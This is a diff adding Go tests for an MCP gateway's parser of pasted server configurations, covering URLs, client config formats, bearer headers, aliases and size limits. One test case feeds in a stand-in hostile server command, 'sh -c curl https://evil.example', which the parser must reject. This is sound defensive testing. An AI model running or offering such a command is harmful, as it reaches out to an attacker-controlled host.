@@ -1,0 +1,111 @@
+package projects_test
+
+import (
+	"encoding/json"
+	"fmt"
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+
+	"mcpgateway/services/fault"
+	"mcpgateway/services/projects"
+)
+
+// shown returns a pasted server as one line: alias, what is declared, what is
+// wrong, what was noted.
+func shown(t *testing.T, s projects.PastedServer) string {
+	t.Helper()
+	d := map[string]any{}
+	for name, value := range map[string]*string{"url": s.Declaration.URL, "bearer": s.Declaration.AuthBearer, "type": (*string)(s.Declaration.AuthType), "transport": (*string)(s.Declaration.Transport)} {
+		if value != nil {
+			d[name] = *value
+		}
+	}
+	if s.Declaration.Headers != nil {
+		d["headers"] = s.Declaration.Headers
+	}
+	if s.Declaration.Enabled != nil {
+		d["enabled"] = *s.Declaration.Enabled
+	}
+	b, err := json.Marshal(d)
+	if err != nil {
+		t.Fatal(err)
+	}
+	line := s.Alias + " " + string(b)
+	if len(s.Problems) > 0 {
+		line += fmt.Sprintf(" %v", s.Problems)
+	}
+	for _, note := range s.Notes {
+		line += "; " + note
+	}
+	return line
+}
+
+func TestWhatPeoplePaste(t *testing.T) {
+	const notRun = "local servers are not run here: give the url of a remote server"
+	for name, tc := range map[string]struct {
+		pasted string
+		want   []string
+	}{
+		"a URL":                 {" https://mcp.linear.app/mcp\n", []string{`linear {"url":"https://mcp.linear.app/mcp"}`}},
+		"an address":            {"http://127.0.0.1:3001/mcp", []string{`server {"url":"http://127.0.0.1:3001/mcp"}`}},
+		"a host":                {"http://localhost:3001/mcp", []string{`localhost {"url":"http://localhost:3001/mcp"}`}},
+		"mcpServers":            {`{"mcpServers":{"b":{"url":"https://b.example"},"a":{"serverUrl":"https://a.example","type":"sse"}}}`, []string{`a {"transport":"sse","url":"https://a.example"}`, `b {"url":"https://b.example"}`}},
+		"VS Code":               {`{"inputs":[],"servers":{"gh":{"type":"http","url":"https://gh.example"}}}`, []string{`gh {"transport":"streamable-http","url":"https://gh.example"}`}},
+		"VS Code's settings":    {`{"editor.tabSize":2,"mcp":{"servers":{"gh":{"url":"https://gh.example"}}}}`, []string{`gh {"url":"https://gh.example"}`}},
+		"a map":                 {`{"gh":{"httpUrl":"https://gh.example"},"x":"https://x.example"}`, []string{`gh {"url":"https://gh.example"}`, `x {"url":"https://x.example"}`}},
+		"copied entries":        {`"gh": {"url":"https://gh.example"},`, []string{`gh {"url":"https://gh.example"}`}},
+		"one server":            {`{"url":"https://api.example.com/mcp","headers":{"X-Key":"k"}}`, []string{`example {"headers":{"X-Key":"k"},"url":"https://api.example.com/mcp"}`}},
+		"a server called mcp":   {`{"mcp":{"url":"https://x.example"}}`, []string{`x {"url":"https://x.example"}`}},
+		"bearer header":         {`{"a":{"url":"https://a.example","headers":{"authorization":"bearer  tok"}}}`, []string{`a {"bearer":"tok","type":"bearer","url":"https://a.example"}`}},
+		"references":            {`{"a":{"url":"https://a.example","headers":{"Authorization":"Bearer ${env:A_TOKEN}","X-B":"${B:-x}"}}}`, []string{`a {"bearer":"${A_TOKEN}","headers":{"X-B":"${B}"},"type":"bearer","url":"https://a.example"}`}},
+		"a prompt":              {`{"a":{"url":"https://a.example","headers":{"Authorization":"Bearer ${input:token}"}}}`, []string{`a {"bearer":"","type":"bearer","url":"https://a.example"} map[authBearer:the client asks for this value: enter it here]`}},
+		"part of a value":       {`{"a":{"url":"https://a.example","headers":{"X":"key ${A}"}}}`, []string{`a {"headers":{"X":""},"url":"https://a.example"} map[headers.X:a reference to the environment must be the whole value: enter the value, or put the whole into a variable]`}},
+		"off":                   {`{"a":{"url":"https://a.example","disabled":true,"autoApprove":["x"],"timeout":60}}`, []string{`a {"enabled":false,"url":"https://a.example"}; autoApprove is left out; timeout is left out`}},
+		"a command":             {`{"mcpServers":{"fs":{"command":"npx","args":["-y","server-filesystem","/"]},"ok":{"url":"https://ok.example"}}}`, []string{`fs {} map[command:` + notRun + `]`, `ok {"url":"https://ok.example"}`}},
+		"one command":           {`{"command":"npx"}`, []string{`server {} map[command:` + notRun + `]`}},
+		"another bridge":        {`{"a":{"command":"sh","args":["-c","curl","https://evil.example"]}}`, []string{`a {} map[command:` + notRun + `]`}},
+		"stdio":                 {`{"a":{"type":"stdio","url":"https://a.example"}}`, []string{`a {"url":"https://a.example"} map[type:` + notRun + `]`}},
+		"a bridge":              {`{"a":{"command":"npx","args":["-y","mcp-remote@latest","https://a.example/sse","--header","Authorization: Bearer ${T}"]}}`, []string{`a {"bearer":"${T}","type":"bearer","url":"https://a.example/sse"}; the command connects to a remote server, which is used without it`}},
+		"an unusable alias":     {`{"a b":{"url":"https://a.example"}}`, []string{`a b {"url":"https://a.example"} map[alias:use 1 to 64 letters, digits and inner hyphens, dots or underscores]`}},
+		"aliases twice":         {`{"a":{"url":"https://a.example"},"A":{"url":"https://b.example"}}`, []string{`A {"url":"https://b.example"}`, `a {"url":"https://a.example"} map[alias:aliases are unique ignoring case, and "A" is there too]`}},
+		"no URL":                {`{"a":{}}`, []string{`a {} map[url:this key is required]`}},
+		"nothing usable inside": {`{"a":7}`, []string{`a {} map[url:use an object, or a URL]`}},
+	} {
+		t.Run(name, func(t *testing.T) {
+			servers, err := projects.ParsePasted(tc.pasted)
+			if err != nil {
+				t.Fatal(err, fieldsOf(err))
+			}
+			var got []string
+			for _, s := range servers {
+				got = append(got, shown(t, s))
+			}
+			if d := cmp.Diff(tc.want, got); d != "" {
+				t.Errorf("(-want +got):\n%s", d)
+			}
+		})
+	}
+}
+
+func TestWhatCannotBePasted(t *testing.T) {
+	entries := func(n int) string {
+		list := make([]string, n)
+		for i := range list {
+			list[i] = fmt.Sprintf(`"s%d":"https://x.example"`, i)
+		}
+		return `{"mcpServers":{` + strings.Join(list, ",") + `}}`
+	}
+	for _, text := range []string{"", "hello", "[]", "{", "{}", `{"mcpServers":{}}`, "ftp://x.example", "https://", "https://a.example https://b.example", `{"a":{},"a":{}}`, entries(projects.MaxServers + 1), strings.Repeat(`{"a":`, 65) + "1" + strings.Repeat("}", 65)} {
+		_, err := projects.ParsePasted(text)
+		wantProblem(t, err, "paste a URL", "pasted")
+	}
+	if servers, err := projects.ParsePasted(entries(projects.MaxServers)); err != nil || len(servers) != projects.MaxServers {
+		t.Errorf("%d servers, %v", len(servers), err)
+	}
+	for n, code := range map[int]fault.Code{projects.MaxPasted - 1: fault.CodeValidationFailed, projects.MaxPasted: fault.CodeValidationFailed, projects.MaxPasted + 1: fault.CodePayloadTooLarge} {
+		_, err := projects.ParsePasted(strings.Repeat("x", n))
+		wantFault(t, err, code)
+	}
+}
